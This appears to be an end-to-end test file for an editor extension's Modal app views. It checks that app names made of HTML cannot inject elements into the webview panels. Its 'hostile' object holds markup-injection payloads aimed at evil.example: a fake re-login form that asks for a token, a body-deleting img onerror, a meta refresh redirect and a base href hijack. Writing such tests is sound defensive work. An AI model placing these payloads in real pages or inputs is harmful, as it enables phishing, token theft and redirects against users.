/** Apps whose names are markup: nobody checks the name of an app that is served and not deployed. The pages stay ours. */
import type { ChildProcess } from 'node:child_process';
import { spawn } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Frame } from 'playwright-core';
import type { Demo } from '../host/demo.ts';
import { startDemo } from '../host/demo.ts';
import { poll } from './kit/poll.ts';
import type { Workbench } from './kit/workbench.ts';
import { openWorkbench } from './kit/workbench.ts';

/** What a row finds them by, and their names. */
const hostile = {
  aform:
    '</title><form action="https://evil.example/"><h2>Session expired</h2><input name=token id=aform><button>Sign in again</button></form><!--',
  animage: '</h1></main><img id="animage" src="https://evil.example/x" onerror="document.body.remove()">',
  refresh: '</title><meta http-equiv=refresh content="0;url=https://evil.example/refresh"><p>',
  abase:
    '</title><base href="https://evil.example/abase/"></head><body id="first"><modal-request data-first="[]">',
};
type Name = keyof typeof hostile;
const names = Object.keys(hostile) as Name[];

let demo: Demo;
let workbench: Workbench;
const served: ChildProcess[] = [];
const consoleLines: string[] = [];

const script = (name: string) => `import modal

app = modal.App(${JSON.stringify(name)})
image = modal.Image.debian_slim().pip_install("fastapi[standard]")


@app.function(image=image)
@modal.asgi_app()
def web():
    from fastapi import FastAPI

    return FastAPI()
`;

beforeAll(async () => {
  demo = await startDemo();
  const all = Object.entries({ ...hostile, ordinary: 'ordinary' });
  for (const [file, name] of all) {
    await writeFile(path.join(demo.workspace, `${file}.py`), script(name));
    const child = spawn(path.join(demo.simulator.binDir, 'modal'), ['serve', `${file}.py`], {
      cwd: demo.workspace,
      env: { ...process.env, ...demo.env },
      stdio: 'ignore',
    });
    served.push(child);
  }
  workbench = await openWorkbench({ host: demo.host, folder: demo.workspace });
  workbench.page.on('console', (message) => consoleLines.push(message.text()));
  await workbench.openView('Apps');
});
afterAll(async () => {
  await workbench?.close();
  for (const child of served) child.kill('SIGINT');
  await demo?.stop();
});
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') await workbench.shot(`failed ${task.name}`);
});

const row = (name: RegExp) => workbench.treeRow('Apps', name);

/** Opens something of the endpoint of an app; the row is closed again, since all endpoints have one name. */
async function fromEndpoint(
  app: string,
  act: (endpoint: ReturnType<typeof row>) => Promise<void>,
): Promise<void> {
  const wanted = row(new RegExp(`^App .*${app}`));
  await wanted.waitFor(60_000);
  await wanted.expand();
  await act(row(/^Web endpoint web/));
  await wanted.collapse();
}

/** All elements of the page, without what is inside ours. */
const elementsOf = (frame: Frame) =>
  frame.evaluate<string[]>('[...document.querySelectorAll("*")].map(({ localName }) => localName).sort()');
const closeEditors = () => workbench.runCommand('View: Close All Editors');
const holds = (selector: string) =>
  workbench.webviewFrame(async (frame) => (await frame.locator(selector).count()) > 0, 40_000);

async function requestPanel(app: string): Promise<Frame> {
  await fromEndpoint(app, (endpoint) => endpoint.inlineAction('Send Test Request…'));
  return holds('modal-draft .tabs');
}

async function loadPanel(app: string): Promise<Frame> {
  await fromEndpoint(app, async (endpoint) => {
    await endpoint.menu('Run Load Test…');
    await workbench.quickPick.choose(/^Start…/);
    await workbench.modalDialog.press('Cancel');
  });
  return holds('modal-load');
}

describe.each([
  ['request panel', requestPanel],
  ['load test', loadPanel],
] as const)('the %s', (_title, open) => {
  let ordinary: string[];

  it('of an ordinary app has the elements that the others are compared with', async () => {
    ordinary = await elementsOf(await open('ordinary'));
    expect(ordinary.filter((name) => name.includes('-'))).toHaveLength(1);
    await closeEditors();
  });

  it.each(names)('has no other elements for an app whose name is markup: %s', async (app) => {
    const frame = await open(app);
    expect(await elementsOf(frame)).toEqual(ordinary);
    expect(await frame.evaluate('document.baseURI')).not.toContain('evil');
    expect(await frame.locator('h1').textContent()).toContain(hostile[app]);
    if (app === 'aform') await workbench.shot(`170-${_title.replace(' ', '-')}-hostile-name`);
    await closeEditors();
  });
});

describe('the log viewer', () => {
  it('has no other elements while it shows the log of such an app', async () => {
    for (const app of names) await row(new RegExp(`^App .*${app}`)).inlineAction(/^Follow Logs/);
    const frame = await holds('modal-logs');
    await poll(async () => ((await frame.getByRole('tab').count()) >= names.length ? true : undefined), {
      what: 'a tab for each log',
    });
    const elements = await elementsOf(frame);
    expect(
      elements.filter((name) => ['form', 'img', 'base', 'input', 'button', 'p', 'h2'].includes(name)),
    ).toEqual([]);
    expect(elements.filter((name) => name.includes('-'))).toEqual(['modal-logs']);
    expect(await frame.locator('form:not(.picker), img, #aform, #animage').count()).toBe(0);
    await workbench.shot('170-logs-hostile-name');
  });
});

it('nothing of a page was against its own policy, and nothing was asked of another site', () => {
  expect(consoleLines.filter((line) => /Content Security Policy|evil\.example/.test(line))).toEqual([]);
});
